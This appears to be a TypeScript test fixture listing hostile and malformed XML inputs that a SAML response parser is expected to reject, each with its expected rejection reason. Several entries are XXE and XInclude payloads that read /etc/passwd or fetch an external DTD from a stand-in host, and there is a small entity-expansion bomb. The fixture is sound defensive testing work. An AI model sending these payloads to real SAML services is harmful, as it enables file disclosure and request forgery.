/** Documents that do harm to who reads them, or are no response. */
import { responseXml } from '../saml-responses.js';
import { declaration, good, changed, saying, type Attack, type Material } from './material.js';

const doctype = (content: string) => (material: Material) => `<!DOCTYPE samlp:Response ${content}>${good(material)}`;

export const documents: readonly Attack[] = [
  { name: 'an external entity', forge: doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]'), detail: declaration },
  {
    name: 'a parameter entity',
    forge: doctype('[<!ENTITY % x SYSTEM "http://192.0.2.1/x"> %x;]'),
    detail: declaration,
  },
  { name: 'an external DTD', forge: doctype('SYSTEM "http://192.0.2.1/x.dtd"'), detail: declaration },
  {
    name: 'a bomb of entities',
    forge: doctype('[<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]'),
    detail: declaration,
  },
  { name: 'a DOCTYPE alone', forge: doctype(''), detail: declaration },
  {
    name: 'an entity that nobody has declared',
    forge: ({ say }) => responseXml(say({ extensions: '<samlp:Extensions>&#x41;&x;</samlp:Extensions>' })),
    detail: 'an unknown entity',
  },
  {
    name: 'XInclude',
    forge: saying({
      extensions:
        '<samlp:Extensions><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></samlp:Extensions>',
    }),
    detail: 'XInclude',
  },
  {
    name: 'elements nested too deep',
    forge: ({ say }) => responseXml(say({ extensions: '<x>'.repeat(32) + '</x>'.repeat(32) })),
    detail: 'the message is nested too deep',
  },
  {
    name: 'a thousand declarations of namespaces',
    forge: ({ say }) => {
      const declarations = Array.from({ length: 1000 }, (_, at) => `xmlns:n${at}="urn:n"`).join(' ');
      return responseXml(say({ extensions: `<x ${declarations}/>` }));
    },
    detail: 'too many attributes',
  },
  {
    name: 'a message that is too large',
    forge: ({ say }) => responseXml(say({ extensions: 'x'.repeat(256 * 1024) })),
    detail: 'the message is too large',
  },
  {
    name: 'an attribute twice in an element',
    forge: changed('<saml:Issuer>', '<saml:Issuer a="1" a="2">'),
    detail: 'an attribute is repeated',
  },
  {
    name: 'another encoding in its declaration',
    forge: (material) => `<?xml version="1.0" encoding="UTF-7"?>${good(material)}`,
    detail: 'a processing instruction',
  },
  {
    name: 'a processing instruction behind the root',
    forge: (material) => `${good(material)}<?xml-stylesheet href="http://192.0.2.1/x"?>`,
    detail: 'a processing instruction',
  },
  { name: 'text behind the root', forge: (material) => `${good(material)}ann`, detail: 'not XML' },
  {
    name: 'a prefix that nobody has declared',
    forge: changed('<saml:Issuer>', '<saml:Issuer x:a="1">'),
    detail: 'a prefix without a namespace',
  },
  {
    name: 'a prefix that is declared anew',
    forge: changed('<saml:Issuer>', '<saml:Issuer xmlns:xml="urn:x">'),
    detail: 'not XML',
  },
  { name: 'no XML', forge: () => 'SAMLResponse', detail: 'not XML' },
  { name: 'a request', forge: changed(/samlp:Response/g, 'samlp:AuthnRequest'), detail: 'not a response of SAML 2.0' },
];
